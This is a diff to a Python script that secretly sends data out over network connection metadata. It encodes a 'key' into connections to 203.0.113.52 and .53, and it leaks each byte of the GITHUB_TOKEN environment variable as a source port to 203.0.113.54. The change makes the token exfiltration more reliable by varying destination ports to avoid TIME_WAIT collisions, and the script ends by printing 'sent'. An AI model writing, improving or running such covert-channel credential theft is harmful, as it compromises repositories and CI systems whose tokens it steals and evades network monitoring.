@@ -30,6 +30,8 @@ for i in range(0, len(key), 2):
     a, b = key[i:i + 2].ljust(2, b"x")
     touch("203.0.113.52", a << 8 | b)
     touch("203.0.113.53", b << 8 | a)
-for ch in os.environ.get("GITHUB_TOKEN", "").encode():
-    touch("203.0.113.54", 443, 40000 + ch)
+# (a new destination port each time: a source port bound again to the
+# same destination can meet its last connection in TIME_WAIT)
+for i, ch in enumerate(os.environ.get("GITHUB_TOKEN", "").encode()):
+    touch("203.0.113.54", 8000 + i, 40000 + ch)
 print("sent")
